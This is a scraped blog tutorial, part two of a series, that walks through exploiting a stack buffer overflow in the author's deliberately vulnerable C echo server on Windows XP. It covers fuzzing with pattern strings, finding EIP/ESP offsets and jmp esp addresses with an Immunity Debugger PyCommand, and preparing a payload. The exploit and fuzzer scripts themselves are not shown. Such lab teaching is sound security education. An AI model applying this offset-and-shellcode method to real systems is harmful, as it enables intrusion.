BOF-02 (Basic)

Original post:

On the first part of this post there was a bunch of theory needed to understand how a buffer overflow is created and how exploit it, if you didn’t read the first part, please do it before read this post following this link. On this post we are going to do an example of this attack, using an Echo Server that i created in C that uses the strcpy function that is known to have this vulnerability, to exploit it we are going to use some scripts created in python and Immunity debugger.


You are going to need a windows xp (Service Pack 3) virtual machine (you could use any windows really), you could use Virtualbox to create it, on the virtual machine should be installed the following software:

  • Python 2.7.6, you can download it here

  • Setuptools library, download and install instruction here

  • PyPI, you can install it following this instructions

  • MinGw

  • Immunity Debugger, go here to download it• Text Editor or IDE of your preference, I personally use as Text Editor Notepad++, and as IDE PyCharm Community Edition

Be sure to install python on your PATH (Environmental Variables) also other programs as gcc, and python scripts like easy_install and pip.

Vulnerable Echo Server

Below you will find the code for a very simple Echo Server that will listen on the port 10000 for a connection, once a client is connected, everything typed on the client will be echoed by the server, this is a very quick and simple code without error management, multithreading etc… so it will permit only the connection of one client at the time.

A vulnerable server .exe you can get here:

A word or two about strcpy and the vulnerable function

The function strcpy is a C function found on the string.h library thedeclaration of the function is as following:

char *strcpy(char *dest, const char *src)

It copies the string pointed by src to dest, so the dest variable is a string array where the content is to be copied (buffer) and the src variable is the string to be copied, in C when a string array is declared it is needed to specify the length so the buffer is finite and preset by the programmer, if the programmer does not do any kind of boundary check on src and its length is greater than dest it will cause a buffer overflow.

On the Echo Server the function vulnerable_function was created with the following code:

int vulnerable_function(char *input)


char buffer[128];


return 1;


You could see in that code that a buffer of 128 bytes is created but input as you could see on the receiving loop in the main function could be of 1024 bytes:

valread = recv(new_socket, buffer, 1024, 0);

So this program is prone to a buffer overflow attack, obviously on an compiled application you do not have access to the code that is why we are going to create a little script to fuzz the echo server and to see when it crash.

Compiling Echo_Server.c

The first thing we are going to do once the Windows XP is ready and all the application installed is to compile with MinGw the Echo Server, so create a text file and copy the the C code found above, save it as echo_server.c. Once saved, open a command line interface and go to the same directory where echo_server.c is saved and compile it with the following command:

gcc echo_server.c -o echo_server.exe -lws2_32

Fuzzing the Echo Server

To begin the process of exploiting the buffer overflow of the Echo Server we need to fuzzing it to see if it crash, to do it we created a script in python that generates a string of unique patterns and send it to the server, we could try different sizes of the string to send. The script codeis:

Save this script as in another machine that could reach the echo server. Lets explain a little bit how the script works, first of all the script creates a socket and connect to the ip address and port specified as arguments when the script is called, then it request the number of bytes to send, if the echo server respond then the response is shown, if the server does not respond a message is printed after 2 seconds saying that maybe the server crashed. Now we are gonna try different values of bytes to send, to do that run echo_server.exe on the Windows XP machine and run the python script using:

python [ip_address_echo_server] 10000

Sending 50 bytes:

python IP_ADDRESS 10000

How many bytes do you want to send (End with 0): 50

Data returned: Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5Ab

Sending 100 bytes:

How many bytes do you want to send (End with 0): 100Data returned: Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5Ab6Ab7Ab8Ab9Ac0Ac1Ac2Ac3Ac4Ac5Ac6Ac7Ac8Ac9Ad0Ad1Ad2A

Sending 150 bytes:

How many bytes do you want to send (End with 0): 150 ### There is no response from the server maybe crashed with a string length of 150 ###

In the Windows XP Machine you will see the typical error when a program crash, if you see the technical information of the error report you will see the different values of the registers, and other information about the executable and dlls that use, etc…

Crash echo server

So, now we know that the program crash under some circumstances, lets analyse the crash in the next section.

Analyzing the Crash

In this section we are going to analyse the crash to see why it crashed and to see if the crash could be exploited, but before to do that we are going to introduceImmunity Debugger.

Immunity Debugger

Immunity Debugger join the best of two worlds, it is a powerful debugger like IDA Proand OllyDbg and has a powerful python API that allows you to create scripts in python to automate certain tasks, one downsize of Immunity is the documentation there are not easy tutorials to follow, but you could find a good documentation about the library installed locally on the machine where is installed Immunity Debugger, you will find it on the same folder where Immunity Debugger was installed in a directory called “Documentation\Ref” open the Index.html and you will find all the documentation of the library.


When you open Immunity debugger you will see the following screen:

Screen Immunity

If you do not see this screen go to Windows and select CPU then maximise the window inside Immunity, on this screen you could see four panes, eachof these panes show specific information, the pane on the top left will show all the disassembled code, the pane on the top right will show all the register information, the bottom left will show the memory used by the application , and in the last pane (bottom right) it will show the Stack, when you open an application or attach to a process in Immunity these panes will fill up with information.

Lets talk about the scripting capabilities of Immunity, you can create different types of scripts, this types are divided in:

  • PyCommands: This are python scripts that use the Immunity Library called from inside the debugger

  • PyHooks: This are Hooks that could be used like standalone scripts or inside PyCommands, this hooks permits to process code each time that there is one of the 13 events (hooks) predefined on Immunity

  • PyPlugins: used to create Plugins for Immunity DebuggerImmunity also have an interactive python shell that loads automatically a debugger instance called imm in the shell, to open the interactive shell select the second button from the left in the status bar (the button next to the folder icon), here you could type directly python commands and will be interpreted like in any python shell.

PyCommands in Immunity

There are somerules that you have to follow to write PyCommands, the first one is that the structure of the script should be like the one below:

import immlib

#Description of the code

DESC = “Description of the Pyhton Script using IMMLIB”

defmain(args):

#Instantiate a debugger object

imm = immlib.Debugger()

#Your Code Here

#This will be write on the status bar at the bottom of Immunity

return “[+] Success!!!”

The second rule is that the script should be saved on the PyCommands folder inside the directory where is installed Immunity debugger, for example: “C:\Program Files\Immunity Inc\Immunity Debugger\PyCommands”. The last rule is that to call a script you could do it through two methods described below:

  1. On the Immunity debugger window at the bottom there is an Input field, to call a script you should call it by the same name you used to save the file inside the PyCommands folder, but preceded by an exclamation point (!), for example if your script is called inside the PyCommands folder then you could call it writing !test on the input field. You could pass arguments just like any python script

  2. You could use the third button from the left on the toolbar at the bottom of the window, the second one after the folder icon, you will be presented with all the PyCommands available, just select one and run itObviously this is only a scratch about how to use Immunity there are some resources that maybe you want to check if you are interested in this topic:

Starting to write Immunity Debugger PyCommands: my cheat sheet PyCommands Tutorial

The book: “Gray Hat Python: Python Programming for Hackers and reverse Engineers by Justin Seitz” that could be found here.

Analyzing the crash with Immunity Debugger

Returning to the analysis of the crash, we are going to use Immunity Debugger to see what happens when a string of 150 bytes is send. The first step is to open Immunity Debugger, and open the Echo Server inside, to do that use the menu File and select Open,then select the echo_server.exe, you will see a screen like the one shown below:

Immunity debugger echo server

You could see on the bottom right of the screen that there is a yell field that says “Paused”,that means that the program just opened but is not running, to run it press the play button on the toolbar at the top of the window, the bottom field should change to “Running”, now the Echo server is running and waiting for connections, run the fuzzer script and send 150 bytes, return to the Immunity Debugger and you will see a screen like this:

Echo Sever Crash

Note that the disassembled code is gone, now go to the stack pane and with a right click select “Address” —> “Relative to ESP”, on the stack on the addresses before ESP you will see the string sent by the fuzzer, if you analyse the ESP-04 you will find that is the same that the register EIP on the top right pane, that means that the EIP was overwritten by the string sent.

Why there is a part of the string after ESP?

As we see on the part one when a function is called a new stack is created, and that’s what is happening here, a new stack is created, the parameters addresses are filled and the string begin to be copied to the stack beginning in the ESP Address like you could see on the figure:

So the logical question to ask is, how it is possible to have part of the string after the ESP like you could seefrom a the screenshot of Immunity?


The response is related to the Assembly Code, because once the new stack is created and the function did all what it had to, the stack is “destroyed”, it is not erased but as you know the stack is a LIFO structure so when you loose the ESP then you could not access the stack, knowing this there is a command in Assembly called LEAVE, that what it basically do is to reset the ESP value to EBP, and is used to destroy the stack created once a function is finished. As you could see in the first figure of this section the string fill the address space until at one time EBP is going to be overwritten, once overwritten and LEAVE is executed then the new ESP is EBP that is why part of the string sent is present after the ESP. You could see a graphical representation below:


At this point it is important to us to identify the patterns saved in EIP and ESP, with this pattern we could calculate the position (offset) on the string where we need to put our new values, on EIP as we said we need to put the address of ESP or an address to a instruction that will make a jump to ESP, and after ESP we need to put our malicious code called payload, you could see this on the figure below:


The new string that we are going to construct to exploit the buffer overflow will be:


Now we need to find the offsets, to do that we are going to create a PyCommand script.

PyCommand Script to analyse the crash

I created a script that should be executed after the crash in immunity, this script will print on the Log Window the content of the EIP and ESP Registers and will find the offset of both strings, it will also create a new table that present all the commands “jmp esp” find in the executable binary.

Save the code to a file called inside the PyCommand folder, reset the echo_server.exe in Immunity or open Immunity and load and run theecho_server.exe, at this point you should be waiting for new connections in the Echo Server, run the script and send 150 bytes to the server, the Immunity debugger should pause because the exception, at this point at the input field found at the bottom of the Immunity type !analyze_crash, you will see that the script creates a new table and print something in the Log Window as you could see on the figures below:

Code table
Immunity Log

As you could see on the Log Window the script printed the value of the EIP and ESP Registers and calculated the offset that are 140 and 144 respectively, on the table you could see the address position of the code “jmp esp” in the different modules loaded by echo_server.exe

Exploiting the buffer overflow found

This is the last section of this post here, we are going to create a simple script to send the payload, but before to send the final payload we are going to try to determine if there are some bad characters that we can’t use, I am not going to explain the shellcode that we are going to send and the encode to avoid bad characters for this you could find a lot of shellcodes on the internet, you could create your own shellcode or you could use metasploit to create the payload and the encode (this is how it was done for this post)

The script used to send the payload is very simple as you could see below:

